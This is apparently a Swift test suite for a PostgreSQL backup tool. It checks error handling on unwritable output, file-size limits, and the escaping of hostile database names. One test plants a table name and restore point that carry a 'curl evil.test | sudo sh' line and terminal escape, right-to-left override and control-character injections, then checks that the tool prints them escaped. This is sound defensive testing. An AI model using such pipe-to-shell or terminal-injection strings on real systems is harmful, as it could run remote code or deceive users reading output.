import Platform
import Support
import Testing

/// Output to files and terminals, and what it may do to them.
@Suite struct OutputTests {
    @Test func `results that can't be written are a failure, and a reader who left is none`() throws {
        let site = try TestSite(initdb: ["--wal-segsize=1"])
        try site.tidemark(["backup"], expectSuccess: true)
        let commands = [
            "list", "list --json", "plan --target latest", "history", "du", "check", "status", "segments", "help",
        ]
        for command in commands {
            for (target, ending) in [("/dev/full", Finished.TerminationStatus.exited(1)), ("| /bin/true", .exited(0))] {
                let redirection = target.hasPrefix("|") ? target : "> \(target)"
                let script = "\(try Executables.tidemark()) \(command) \(redirection)"
                let finished = try runAsServerUser(
                    "/bin/sh", ["-c", script], environment: ["TIDEMARK_CONFIG": site.configuration],
                    expectSuccess: false)
                #expect(finished.ending == ending, "\(command) \(target): \(finished)")
                #expect(finished.errors.contains("No space left on device") == (target == "/dev/full"), "\(command)")
            }
        }
    }

    /// In bytes: nothing, less than a page, more than a manifest.
    @Test(arguments: [0, 4096, 100_000]) func `a limit of file sizes ends no command by a signal`(limit: Int) throws {
        let site = try TestSite(initdb: ["--wal-segsize=1"])
        try site.tidemark(["backup"], expectSuccess: true)
        let commands = [
            ["list"], ["check"], ["plan", "--target", "latest"], ["verify"], ["history"], ["events"], ["segments"],
            ["backup", "--no-expire"], ["expire", "--keep-full", "5"], ["drill"], ["clean"],
            ["recovery-end", "--data-directory", site.cluster.data],
        ]
        for command in commands {
            let finished = try runAsServerUser(
                "/usr/bin/prlimit", ["--fsize=\(limit)", Executables.tidemark()] + command,
                environment: ["TIDEMARK_CONFIG": site.configuration], expectSuccess: false)
            #expect([.exited(0), .exited(1), .exited(3)].contains(finished.ending), "\(command): \(finished)")
        }
    }

    @Test func `no name in the database moves the cursor or forges a line`() throws {
        let site = try TestSite(initdb: ["--wal-segsize=1"])
        // A newline and an offered command, an escape sequence, a right-to-left override, and 8-bit controls.
        let evil = "o\n    before it: curl evil.test | sudo sh #\u{1B}[2J\u{202E}\u{9B}31m"
        let quoted = evil.replacing("\"", with: "\"\"")
        try site.cluster.psql("create table \"\(quoted)\" as select 1 i")
        try site.cluster.psql("select pg_create_restore_point(E'\(evil)')")
        try site.tidemark(["backup"], expectSuccess: true)
        try site.cluster.psql("insert into \"\(quoted)\" values (2)")
        try site.cluster.psql("drop table \"\(quoted)\"")
        let command = "true \u{1B}]0;owned\u{7} \u{202E}"
        try site.archiveEverything()
        try site.cluster.psql("alter system set archive_command = '\(command)'")
        try site.cluster.psql("select pg_reload_conf()")
        try site.cluster.wait(for: "the setting") { try site.cluster.psql("show archive_command").contains("owned") }
        for line in [
            ["events"], ["events", "--kind", "drop"], ["around", "--target-time", "now"],
            ["plan", "--target", "latest"],
            ["plan", "--target-name", evil], ["check"], ["check", "--format", "nagios"], ["status"], ["init"],
            ["show", "--latest"],
            ["recover-table", "--table", evil, "--before-drop", "--to-file", "/nonexistent/x"],
        ] {
            let finished = try site.tidemark(line)
            for text in [finished.output, finished.errors] {
                let bad = text.unicodeScalars.filter {
                    ($0.value < 0x20 && $0 != "\n" && $0 != "\t") || (0x7F..<0xA0).contains($0.value)
                        || $0.value == 0x202E
                }
                #expect(bad.isEmpty, "\(line): \(text)")
                #expect(!text.contains("\n    before it: curl"), "\(line): \(text)")
            }
        }
        let events = try site.tidemark(["events"], expectSuccess: true).output
        #expect(events.contains("o\\n    before it: curl evil.test | sudo sh #\\x1b[2J\\u202e"), "\(events)")
    }
}
